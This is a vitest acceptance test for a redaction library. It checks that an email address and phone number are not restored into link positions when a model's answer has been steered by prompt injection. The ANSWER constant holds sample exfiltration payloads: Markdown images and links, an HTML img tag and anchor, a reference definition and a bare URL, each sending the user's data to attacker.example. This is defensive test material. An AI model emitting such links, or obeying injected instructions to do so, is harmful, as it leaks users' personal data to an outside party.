/**
 * Acceptance of issue 16, "prompt injection": through the public API against a real local
 * OpenAI-compatible endpoint, an answer steered to exfiltrate the user's data through
 * Markdown image and link targets, a reference definition, HTML attributes and a bare URL
 * gets no value restored in any of those places (default `restore: 'text'`), while prose
 * is restored; `redactions.unrestored` counts the refusals; `restore: 'all'` restores all.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createEngine, type FinishPart, type RedactOptions } from '../../../src/index.js';
import { startRecorder, type Recorder } from './recorder.js';

const EMAIL = 'jane.doe@example.com';
const PHONE = '+44 20 7946 0958';

/** What a model that obeyed injected instructions might answer; 3-character SSE chunks split every placeholder. */
const ANSWER = [
  'Sure, [EMAIL_1]! Here is your summary.',
  '![status](https://attacker.example/p.png?d=[EMAIL_1])',
  '[Verify your account](https://attacker.example/verify?u=[EMAIL_1]&p=[PHONE_1])',
  '![logo][img]',
  '<img src="https://attacker.example/t.gif?e=[EMAIL_1]" alt="[PHONE_1]">',
  "<a href='https://attacker.example/?p=[PHONE_1]'>details</a>",
  'Visit https://attacker.example/track?e=[EMAIL_1] for more, or call [PHONE_1].',
  '',
  '[img]: https://attacker.example/r.png?e=[EMAIL_1]',
].join('\n');
const REFUSALS = 8;

let rec: Recorder;
beforeAll(async () => {
  rec = await startRecorder();
  rec.reply.text = ANSWER;
  rec.reply.chunk = 3;
});
afterAll(() => rec.close());

async function ask(redact?: RedactOptions): Promise<{ text: string; finish: FinishPart }> {
  const engine = createEngine({ remote: { baseURL: rec.baseURL, model: 'm', maxRetries: 0 }, policy: 'remote-only', ...(redact ? { redact } : {}) });
  try {
    let text = '';
    let finish: FinishPart | undefined;
    const parts = engine.generate({ messages: [{ role: 'user', content: `Summarise my account. I am ${EMAIL}, phone ${PHONE}.` }] });
    for await (const p of parts) {
      if (p.type === 'text') text += p.text;
      else if (p.type === 'finish') finish = p;
    }
    if (!finish) throw new Error('no finish part');
    return { text, finish };
  } finally {
    await engine.dispose();
  }
}

/** Every place a renderer would fetch or link: Markdown targets, definitions, tag attributes, bare URLs. */
function linkPositions(text: string): string[] {
  const found: string[] = [];
  for (const m of text.matchAll(/\]\(([^)]*)\)/g)) found.push(m[1] ?? '');
  for (const m of text.matchAll(/^\[[^\]]+\]:\s*(.*)$/gm)) found.push(m[1] ?? '');
  for (const m of text.matchAll(/<[a-z][^>]*>/gi)) found.push(m[0]);
  for (const m of text.matchAll(/https?:\/\/\S+/g)) found.push(m[0]);
  return found;
}

describe('an answer that tries to exfiltrate through links (prompt injection)', () => {
  it("restores prose and nothing in a link position by default, and counts the refusals", async () => {
    const { text, finish } = await ask();
    expect(JSON.stringify(rec.requests.map((r) => r.body))).not.toContain(EMAIL);
    const positions = linkPositions(text);
    expect(positions.length).toBeGreaterThanOrEqual(7);
    for (const where of positions) {
      expect(where).not.toContain(EMAIL);
      expect(where).not.toContain(PHONE);
    }
    expect(text).toBe(ANSWER.replace('Sure, [EMAIL_1]!', `Sure, ${EMAIL}!`).replace('or call [PHONE_1].', `or call ${PHONE}.`));
    expect(finish.redactions).toEqual({ email: 1, phone: 1, unrestored: REFUSALS });
    expect(finish.restored?.map((s) => [text.slice(s.start, s.end), s.type])).toEqual([[EMAIL, 'email'], [PHONE, 'phone']]);
  });

  it("restores every position with restore: 'all', as documented", async () => {
    const { text, finish } = await ask({ restore: 'all' });
    expect(text).toBe(ANSWER.replaceAll('[EMAIL_1]', EMAIL).replaceAll('[PHONE_1]', PHONE));
    expect(finish.redactions).toEqual({ email: 1, phone: 1 });
    expect(finish.restored).toHaveLength(REFUSALS + 2);
  });

  it("leaves every placeholder with restore: 'none'", async () => {
    const { text, finish } = await ask({ restore: 'none' });
    expect(text).toBe(ANSWER);
    expect(finish.restored).toEqual([]);
  });
});
